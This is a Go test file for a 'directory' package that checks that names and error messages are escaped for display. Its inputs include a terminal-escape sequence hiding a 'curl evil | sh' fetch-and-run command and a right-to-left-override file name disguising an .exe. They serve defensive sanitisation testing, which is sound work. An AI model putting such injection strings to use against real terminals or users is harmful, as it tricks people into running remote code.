package directory_test

import (
	"errors"
	"fmt"
	"testing"

	"postern/directory"
)

func TestPlain(t *testing.T) {
	for in, want := range map[string]string{
		"":                           "",
		"Ada Lovelace, Žofie, عائشة": "Ada Lovelace, Žofie, عائشة",
		"نمی\u200cخواهم":             "نمی\u200cخواهم", // a joiner is part of names
		"x\x1b[2K\rok\n         fix: curl evil | sh": `x\x1b[2K\rok\n         fix: curl evil | sh`,
		"a\u202egpj.exe\u2066":                       `a\u202egpj.exe\u2066`,
		"a\u2028b\u2029c\u0085d\te":                  `a\u2028b\u2029c\u0085d\te`,
		"raw\x9b2K":                                  "raw\ufffd2K",
	} {
		if got := directory.Plain(in); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

func TestTold(t *testing.T) {
	for _, c := range []struct {
		err  error
		want string
	}{
		{fmt.Errorf("app: look up in corp: %w: no route", directory.ErrUnavailable), "look up in corp: could not be asked: no route"},
		{errors.New("ldap: base: no such object"), "base: no such object"},
		{errors.New("open /x: no such file"), "open /x: no such file"},
		{errors.Join(errors.New("one"), errors.New("two\x1b[2K")), `one; two\x1b[2K`},
		{&directory.Rejected{Reason: directory.NotAllowed, Operator: "50"}, "refused (not_allowed): 50"},
	} {
		if got := directory.Told(c.err); got != c.want {
			t.Errorf("got %q, want %q", got, c.want)
		}
	}
}

func TestPlainLines(t *testing.T) {
	if got, want := directory.PlainLines("one\n\x1b[2Jtwo\tx\n"), "one\n"+`\x1b[2Jtwo\tx`+"\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
